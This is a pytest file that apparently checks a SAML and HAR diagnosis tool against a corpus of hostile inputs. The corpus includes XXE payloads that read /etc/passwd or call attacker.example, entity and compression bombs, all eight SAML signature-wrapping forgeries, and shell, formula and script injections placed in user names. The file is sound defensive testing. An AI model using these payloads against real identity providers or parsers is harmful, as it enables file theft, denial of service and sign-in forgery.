"""The attack corpus: each attack has one named outcome, in bounded time and memory. docs/security.md has the table.

Every attack is a whole capture, so that what is tested is what a person does: opening a stranger's file.
"""

from __future__ import annotations

import ast
import base64
import gzip
import json
import re
import shlex
import time
import tracemalloc
import zlib
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from recorder import FEDERATE, NAME, PAIR, Recorder, Saml, refused, signed_in, users

from connect_saml_nb import har, saml
from connect_saml_nb.diagnosis import diagnose
from connect_saml_nb.errors import CaptureError
from connect_saml_nb.model.saml import MessageState
from connect_saml_nb.redact import redact_har
from connect_saml_nb.render.text import to_text

pytestmark = pytest.mark.slow

Json = Any
ROOT = Path(__file__).resolve().parent.parent
SECONDS = 10
MEGABYTES = 200
GOOD = Saml().xml()
PROTOCOL = 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"'


def posted(value: str) -> bytes:
    """A capture in which this value is posted to AWS, which refuses."""
    return json.dumps(refused(signed_in(value)).har()).encode()


def of_xml(xml: str | bytes) -> bytes:
    """A capture with this message."""
    raw = xml.encode() if isinstance(xml, str) else xml
    return posted(base64.b64encode(raw).decode())


def deflate(data: bytes) -> str:
    """Raw deflate in base64."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(packer.compress(data) + packer.flush()).decode()


def _laughs(levels: int, each: int) -> str:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * each}">' for i in range(1, levels))
    return f"<!DOCTYPE r [{entities}]><r>&a{levels - 1};</r>"


# --- refused: the message is not opened ----------------------------------------------------------------------

REFUSED = {
    "XXE, a local file": ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', "entities"),
    "XXE, a web address": ('<!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/">]><r>&x;</r>', "entities"),
    "parameter entity": ('<!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker.example/"> %x;]><r/>', "entities"),
    "external DTD": ('<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r/>', "external document"),
    "billion laughs": (_laughs(10, 10), "entities"),
    "quadratic blow-up": (f'<!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]><r>{"&a;" * 20_000}</r>', "entities"),
    "deep XML": ("<r>" * 200_000, "nested deeper"),
    "many elements": (f"<r>{'<a/>' * 100_000}</r>", "elements"),
    "many attributes": ("<r " + " ".join(f'a{i}="1"' for i in range(50_000)) + "/>", "attributes"),
    "equal attributes": (GOOD.replace('Version="2.0"', 'Version="2.0" Version="2.0"', 1), "not well-formed"),
    "a huge text": (f"<r>{'x' * 2_500_000}</r>", "larger than"),
    "NUL in XML": (GOOD.replace("anna", "an\0na"), "not well-formed"),
    "an unknown encoding": ('<?xml version="1.0" encoding="x-evil"?><r/>', "encoding"),
    "UTF-7": ('<?xml version="1.0" encoding="utf-7"?><r/>', "encoding"),
}


@pytest.mark.parametrize("attack", REFUSED)
def test_refused(attack: str) -> None:
    """The message is not read, and a sentence says what was wrong with it."""
    xml, sentence = REFUSED[attack]
    message = saml.find_messages(har.read_capture(of_xml(xml)))[0]
    assert (MessageState.DAMAGED, True) == (message.state, sentence in str(message.problem)), message.problem


BOMBS = {
    "deflate bomb": deflate(b"<r>" + b"a" * 100_000_000),
    "deflate bomb in base64 twice": base64.b64encode(deflate(b"<r>" + b"a" * 100_000_000).encode()).decode(),
}


@pytest.mark.parametrize("attack", BOMBS)
def test_bombs_in_a_message(attack: str) -> None:
    """Inflating stops at the bound."""
    message = saml.find_messages(har.read_capture(posted(BOMBS[attack])))[0]
    assert (MessageState.DAMAGED, True) == (message.state, "inflates to more than" in str(message.problem))


# --- inert: read as what it is -------------------------------------------------------------------------------

_TRANSFORM = '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:Reference><ds:Transforms>{t}</ds:Transforms></ds:Reference></ds:SignedInfo></ds:Signature>'
_XSLT = '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/"><x:value-of select="document(\'file:///etc/passwd\')"/></x:template></x:stylesheet></ds:Transform>'
_XPATH = '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>count(//*[count(//*[count(//*)])])</ds:XPath></ds:Transform>'
_XINCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'


def _with_signature(inner: str) -> str:
    start, end = GOOD.index("<ds:Signature "), GOOD.index("</ds:Signature>") + len("</ds:Signature>")
    return GOOD[:start] + inner + GOOD[end:]


INERT = {
    "XInclude in a value": GOOD.replace(f">{NAME}<", f">{_XINCLUDE}{NAME}<"),
    "XSLT in a signature": _with_signature(_TRANSFORM.format(t=_XSLT)),
    "XPath in a signature": _with_signature(_TRANSFORM.format(t=_XPATH)),
    "many transforms": _with_signature(_TRANSFORM.format(t=_XPATH * 1000)),
    "a comment inside the name": GOOD.replace(f">{NAME}<", ">anna.berg<!-- x -->@acme.example<"),
    "a processing instruction inside the name": GOOD.replace(f">{NAME}<", ">anna.berg<?x?>@acme.example<"),
    "CDATA in the name": GOOD.replace(f">{NAME}<", f"><![CDATA[{NAME}]]><"),
}


@pytest.mark.parametrize("attack", INERT)
def test_inert(attack: str) -> None:
    """Nothing is fetched, run or cut off: the name is read whole, and an odd one is told of."""
    message = saml.find_messages(har.read_capture(of_xml(INERT[attack])))[0]
    assertion = message.assertion
    assert (MessageState.READ, NAME) == (message.state, assertion and assertion.attributes[-1].values[0])


# --- signature wrapping --------------------------------------------------------------------------------------


def _wrapping() -> dict[str, str]:
    """The eight wrappings of Somorovsky et al., 'On Breaking SAML' (2012), numbered as SAML Raider does."""
    start, end = GOOD.index("<saml:Assertion "), GOOD.index("</saml:Assertion>") + len("</saml:Assertion>")
    good = GOOD[start:end]
    evil = good.replace(NAME, "evil@acme.example").replace('ID="_qa-1"', 'ID="_evil"')
    head, tail = GOOD[:start], GOOD[end:]
    sign_start, sign_end = good.index("<ds:Signature "), good.index("</ds:Signature>") + len("</ds:Signature>")
    signature, bare = good[sign_start:sign_end], good[:sign_start] + good[sign_end:]
    evil_bare = evil.replace(signature, "")
    whole = f"{head}{bare}{tail}"
    inside = signature.replace("</ds:Signature>", f"<ds:Object>{bare}</ds:Object></ds:Signature>")
    return {
        "XSW1": f"{head}{signature.replace('</ds:Signature>', whole + '</ds:Signature>')}{evil_bare}{tail}",
        "XSW2": f"{head}{whole}{signature}{evil_bare}{tail}",
        "XSW3": f"{head}{evil_bare}{good}{tail}",
        "XSW4": f"{head}{evil_bare.replace('</saml:Assertion>', good + '</saml:Assertion>')}{tail}",
        "XSW5": f"{head}{evil}{bare}{tail}",
        "XSW6": f"{head}{evil_bare.replace('<saml:Subject>', inside + '<saml:Subject>', 1)}{tail}",
        "XSW7": f"{head}<samlp:Extensions>{good}</samlp:Extensions>{evil_bare}{tail}",
        "XSW8": f"{head}{evil_bare.replace('<saml:Subject>', signature.replace('</ds:Signature>', '<ds:Object>' + bare + '</ds:Object></ds:Signature>') + '<saml:Subject>', 1)}{tail}",
    }


@pytest.mark.parametrize("attack", [f"XSW{n}" for n in range(1, 9)])
def test_signature_wrapping_is_told(attack: str) -> None:
    """A second assertion is never passed over: it is one of the assertions, or a note says where it stood."""
    message = saml.find_messages(har.read_capture(of_xml(_wrapping()[attack])))[0]
    assert len(message.assertions) > 1 or any("signature wrapping" in str(note) for note in message.notes), (
        message.notes
    )


def test_equal_ids_are_told() -> None:
    """Two elements with one ID make it unclear which one a signature covers."""
    start, end = GOOD.index("<saml:Assertion "), GOOD.index("</saml:Assertion>") + len("</saml:Assertion>")
    twice = GOOD[:end] + GOOD[start:end] + GOOD[end:]
    message = saml.find_messages(har.read_capture(of_xml(twice)))[0]
    assert any("stands 2 times" in str(note) for note in message.notes)


# --- the capture around it -----------------------------------------------------------------------------------


def _entry(**changes: Json) -> bytes:
    entry = Recorder().get("https://a.example/").entries[-1]
    return json.dumps({"log": {"entries": [{**entry, **changes}]}}).encode()


def _tiny(number: int) -> str:
    return base64.b64encode(f"<a>{number}</a>".encode()).decode()


CAPTURES = {
    "deep JSON": b'{"log":{"entries":' + b"[" * 500_000,
    "deep JSON in an entry": b'{"log":{"entries":[{"request":' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}]}}",
    "a huge number": b'{"log":{"entries":[{"time":' + b"9" * 1_000_000 + b"}]}}",
    "a huge exponent": b'{"log":{"entries":[{"time":1e999999999,"request":{"url":"https://a.example/"}}]}}',
    "many keys": json.dumps({"log": {"entries": [], **{f"k{i}": 0 for i in range(200_000)}}}).encode(),
    "equal keys": b'{"log":{"entries":[],"entries":[],"log":{"entries":[]}}}',
    "a huge string": _entry(comment="x" * 20_000_000),
    "many headers": _entry(request={"url": "https://a.example/", "headers": [{"name": "a", "value": "b"}] * 200_000}),
    "a URL of a megabyte": _entry(request={"url": "https://a.example/?" + "a=b&" * 300_000}),
    "only backslashes": b'{"log":{"entries":["' + b"\\" * 2_000_000,
    "only quotes": b'{"log":{"entries":[' + b'"' * 100_000,
    "NUL bytes": b'{"log":{"entries":[' + b"\0" * 2_000_000,
    "a page of open tags": _entry(
        response={
            "status": 200,
            "content": {"mimeType": "text/html", "text": "SAMLResponse" + "<form <input " * 200_000},
        }
    ),
    "a page of one long tag": _entry(
        response={"status": 200, "content": {"mimeType": "text/html", "text": "SAMLResponse<input " + "a" * 2_000_000}}
    ),
    "gzip bomb": gzip.compress(b" " * 200_000_000),
    "a thousand messages": _entry(
        request={
            "method": "POST",
            "url": "https://a.example/",
            "postData": {"text": "&".join("SAMLResponse=" + quote(_tiny(i), safe="") for i in range(1000))},
        }
    ),
}


@pytest.mark.parametrize("attack", CAPTURES)
def test_a_hostile_capture_gives_a_diagnosis_or_a_sentence(attack: str) -> None:
    """Nothing else comes out, within the bounds of time and memory."""
    began = time.process_time()
    said = _said(CAPTURES[attack])
    took = time.process_time() - began
    tracemalloc.start()
    _said(CAPTURES[attack])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    print(f"{attack}: {took:.2f} s, {peak / 1e6:.0f} MB")
    assert (True, True, True) == (bool(said), took < SECONDS, peak < MEGABYTES * 1e6), (took, peak)


def _said(data: bytes) -> str | None:
    try:
        return diagnose(data).verdict
    except CaptureError as error:
        return str(error)


@pytest.mark.parametrize("attack", [a for a in CAPTURES if a != "gzip bomb"])
def test_a_hostile_capture_is_redacted_or_refused(attack: str, tmp_path: Path) -> None:
    """The redactor has the same bounds of time."""
    began = time.process_time()
    try:
        said = str(redact_har(CAPTURES[attack], tmp_path / "out.har")[0].path)
    except CaptureError as error:
        said = str(error)
    assert (True, True) == (bool(said), time.process_time() - began < 3 * SECONDS)


# --- names ---------------------------------------------------------------------------------------------------

NAMES = {
    "right-to-left override": "anna\u202egreb@acme.example",
    "zero-width space": "anna\u200b.berg@acme.example",
    "Cyrillic letter": "аnna.berg@acme.example",
    "newline": "anna.berg\n@acme.example",
    "HTML": "<script>alert(1)</script>@acme.example",
    "Markdown": "[x](javascript:alert(1))`|**@acme.example",
    "LaTeX": "$\\href{javascript:alert(1)}{x}$@acme.example",
    "shell": "$(touch /tmp/pwned);`id`'\"&|@acme.example",
    "formula": "=cmd|'/C calc'!A1@acme.example",
    "terminal escape in an attribute of XML": "anna\u009b31m.berg@acme.example",
    "format string": "%s%n{0.__class__}@acme.example",
}
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("attack", NAMES)
def test_a_hostile_name_is_inert_on_a_terminal(attack: str) -> None:
    """No control or direction character of a stranger reaches the terminal."""
    data = of_xml(Saml(names=(NAMES[attack],)).xml())
    shown = to_text([diagnose(data, users(NAME))], colour=False)
    assert [] == _CONTROL.findall(shown)


@pytest.mark.parametrize("attack", NAMES)
def test_a_hostile_name_is_one_word_of_a_command(attack: str) -> None:
    """Each generated command is split by a shell into words that hold the name whole, or not at all."""
    data = of_xml(Saml(names=(NAMES[attack],), roles=(PAIR,)).xml())
    judged = diagnose(data, users(NAMES[attack].upper(), NAME)).sign_ins[0]
    commands = [c for f in judged.findings for c in f.remedy.commands]
    starts = {shlex.split(c, comments=False)[0] for c in commands}
    assert starts <= {"aws", "cat", "printf", "echo"}, commands
    assert [] == [c for c in commands if "\n" in c and "<<" not in c and attack == "newline" and "anna.berg\n" in c]


# --- the table -----------------------------------------------------------------------------------------------


def test_every_test_of_the_table_is_there() -> None:
    """docs/security.md names tests that exist."""
    text = (ROOT / "docs" / "security.md").read_text(encoding="utf-8")
    named = set(re.findall(r"`(test_\w+)\.(test_\w+)`", text))
    defined = {
        (file.stem, node.name)
        for file in (ROOT / "tests").glob("test_*.py")
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8")))
        if isinstance(node, ast.FunctionDef)
    }
    assert (set(), True) == (named - defined, len(named) > 0)


@pytest.mark.parametrize("attack", [*REFUSED, *BOMBS, *INERT, *CAPTURES, *NAMES, "XSW1-8"])
def test_every_attack_is_in_the_table(attack: str) -> None:
    """docs/security.md names every attack of this file."""
    assert attack.casefold() in (ROOT / "docs" / "security.md").read_text(encoding="utf-8").casefold()


def test_the_federate_page_is_what_the_corpus_ends_at() -> None:
    """The corpus itself is a usual sign-in: without an attack in it, it is judged as one."""
    judged = diagnose(of_xml(GOOD), users(NAME)).sign_ins[0]
    assert ("user-exists-but-refused", True) == (
        judged.verdict,
        judged.sign_in.last is not None and FEDERATE in judged.sign_in.last.url,
    )
